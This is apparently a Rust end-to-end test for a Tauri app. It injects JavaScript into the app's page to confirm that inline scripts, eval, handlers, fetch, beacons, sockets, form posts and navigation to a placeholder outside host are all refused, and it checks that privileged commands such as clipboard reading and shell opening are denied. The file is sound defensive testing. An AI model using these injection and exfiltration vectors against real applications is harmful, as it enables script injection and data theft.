//! What a script that got into the page could do: nothing of it is trusted with more than the page's own commands.

use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use anyhow::{Result, ensure};
use e2e::{Setup, World, until};
use serde_json::Value;
use tokio::io::AsyncBufReadExt as _;
use tokio::net::TcpListener;

/// Tries every way to run text as a program, to fetch from elsewhere and to go elsewhere; notes what the page was told.
const TRY: &str = r#"
const outside = 'OUTSIDE', told = {};
window.__told = told;
const add = (name, attributes, parent = document.body) => {
  const element = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  parent.append(element);
  return element;
};
add('script', {}).textContent = "window.__ran = 'inline'";
add('script', {}).append("window.__ran = 'inline'");
add('script', { src: "data:text/javascript,window.__ran='data'" });
add('script', { src: `${outside}/script.js` });
add('script', { src: `${outside}/module.js`, type: 'module' });
add('img', { src: 'missing.png', onerror: "window.__ran = 'handler'" });
add('img', { src: `${outside}/image.png` });
add('link', { rel: 'stylesheet', href: `${outside}/style.css` });
add('link', { rel: 'prefetch', href: `${outside}/prefetch` });
add('object', { data: `${outside}/object` });
add('iframe', { src: `${outside}/frame` });
add('iframe', { srcdoc: "<script>parent.__ran = 'frame'<\/script>" });
add('base', { href: `${outside}/` }, document.head);
try { told.eval = String(eval("window.__ran = 'eval'")); } catch { told.eval = 'refused'; }
try { told.function = String(new Function("window.__ran = 'function'")()); } catch { told.function = 'refused'; }
fetch(`${outside}/fetch`).then(() => { told.fetch = 'answered'; }, () => { told.fetch = 'refused'; });
try { new WebSocket(outside.replace('http', 'ws')).onopen = () => { window.__ran = 'socket'; }; } catch { told.socket = 'refused'; }
try { navigator.sendBeacon(`${outside}/beacon`, 'x'); } catch { told.beacon = 'refused'; }
told.opened = window.open(`${outside}/window`) === null ? 'refused' : 'opened';
const form = add('form', { action: `${outside}/form`, method: 'post' });
form.submit();
add('a', { href: `${outside}/download`, download: 'x' }).click();
add('a', { href: `${outside}/link`, target: '_blank' }).click();
location.href = `${outside}/location`;
return true;
"#;

/// Calls each command, and notes whether Rust did it.
const CALL: &str = r#"
const told = {};
window.__called = null;
Promise.all(COMMANDS.map((name) =>
  window.__TAURI_INTERNALS__.invoke(name, {}).then(() => { told[name] = 'done'; }, (error) => { told[name] = String(error?.message ?? error); }),
)).then(() => { window.__called = told; });
return true;
"#;

/// Commands of Tauri and its plugins, those that this program uses among them, and one that nobody knows.
const FOREIGN: [&str; 18] = [
    "plugin:event|listen",
    "plugin:event|emit",
    "plugin:event|emit_to",
    "plugin:webview|create_webview_window",
    "plugin:webview|internal_toggle_devtools",
    "plugin:window|create",
    "plugin:window|close",
    "plugin:window|set_title",
    "plugin:app|version",
    "plugin:path|resolve_directory",
    "plugin:resources|close",
    "plugin:menu|new",
    "plugin:clipboard-manager|read_text",
    "plugin:clipboard-manager|write_text",
    "plugin:deep-link|get_current",
    "plugin:shell|open",
    "plugin:opener|open_url",
    "no_such_command",
];

#[tokio::test]
async fn a_script_in_the_page_loads_nothing_goes_nowhere_and_calls_no_other_command() -> Result<()> {
    World::with("page", Setup::default(), async |world| {
        let (outside, asked) = listen().await?;
        let window = world.window()?;
        let before = window.script("return location.href").await?;
        window.script(&TRY.replace("OUTSIDE", &outside)).await?;
        let told = until("the answer to a fetch", async || {
            let told = window.script("return window.__told").await?;
            Ok(told.get("fetch").is_some().then_some(told))
        })
        .await?;
        for way in ["eval", "function", "fetch", "opened"] {
            ensure!(told[way] == "refused", "{way}: {told}");
        }
        // Whatever is loaded late is loaded by now: the same server is reached at once by a client that may.
        tokio::time::sleep(Duration::from_secs(2)).await;
        ensure!(window.script("return window.__ran ?? null").await? == Value::Null, "something ran");
        ensure!(window.script("return location.href").await? == before, "the page went elsewhere");
        let asked = || asked.lock().unwrap_or_else(PoisonError::into_inner).clone();
        ensure!(asked().is_empty(), "another address was asked for {:?}", asked());
        drop(tokio::net::TcpStream::connect(outside.trim_start_matches("http://")).await?);
        until("that connection to be noted", async || Ok((asked().len() == 1).then_some(()))).await?;

        let call = async |names: &[&str]| -> Result<Value> {
            window.script(&CALL.replace("COMMANDS", &serde_json::to_string(names)?)).await?;
            until("the commands to be answered", async || {
                let called = window.script("return window.__called").await?;
                Ok((called != Value::Null).then_some(called))
            })
            .await
        };
        let answers = call(&FOREIGN).await?;
        for name in FOREIGN {
            let answer = answers[name].as_str().unwrap_or_default();
            ensure!(answer.contains("not allowed") || answer.contains("not found"), "{name}: {answer:?}");
        }
        ensure!(call(&["state"]).await?["state"] == "done", "the page's own commands can't be called any more");
        Ok(())
    })
    .await
}

/// A server that notes what it is asked for: the first line of each request. `WebKit` opens a connection ahead for a navigation that is then
/// refused, and sends nothing over it.
async fn listen() -> Result<(String, Arc<Mutex<Vec<String>>>)> {
    let listener = TcpListener::bind(("127.0.0.1", 0)).await?;
    let address = format!("http://{}", listener.local_addr()?);
    let asked = Arc::new(Mutex::new(Vec::new()));
    let noted = Arc::clone(&asked);
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let noted = Arc::clone(&noted);
            tokio::spawn(async move {
                let mut line = String::new();
                // One that is broken off has said what it has said.
                let _ = tokio::io::BufReader::new(stream).read_line(&mut line).await;
                noted.lock().unwrap_or_else(PoisonError::into_inner).push(line);
            });
        }
    });
    Ok((address, asked))
}
